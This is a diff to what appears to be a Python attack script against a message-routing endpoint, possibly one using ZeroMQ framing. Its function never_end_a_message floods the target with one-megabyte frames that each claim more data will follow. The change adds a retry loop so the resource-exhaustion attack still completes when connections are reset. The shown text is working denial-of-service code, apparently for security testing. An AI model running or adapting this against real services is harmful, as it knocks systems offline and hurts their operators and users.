@@ -19,6 +19,8 @@ CHOSEN_IDS = 32
 """Of the routing ids that each of them would give next."""
 FRAME = 1 << 20
 FRAMES = 64
+TRIES = 5
+"""Attempts at an attack whose connection is reset before everything is sent, as about one in ten is."""
 MORE, LONG = 1, 2
 
 
@@ -61,13 +63,17 @@ def first_routing_ids():
 
 def never_end_a_message(endpoint):
     """Send frame after frame, each of them saying that more will follow."""
-    connection = connect(endpoint, b"")
     frame = bytes([MORE | LONG]) + FRAME.to_bytes(8, "big") + bytes(FRAME)
-    with contextlib.suppress(OSError):
-        for _ in range(FRAMES):
-            connection.sendall(frame)
-        while connection.recv(4096):
-            pass
+    for _ in range(TRIES):
+        connection, sent = connect(endpoint, b""), 0
+        with contextlib.suppress(OSError):
+            for _ in range(FRAMES):
+                connection.sendall(frame)
+                sent += 1
+            while connection.recv(4096):
+                pass
+        if sent == FRAMES:
+            return
 
 
 def connect(endpoint, routing_id):
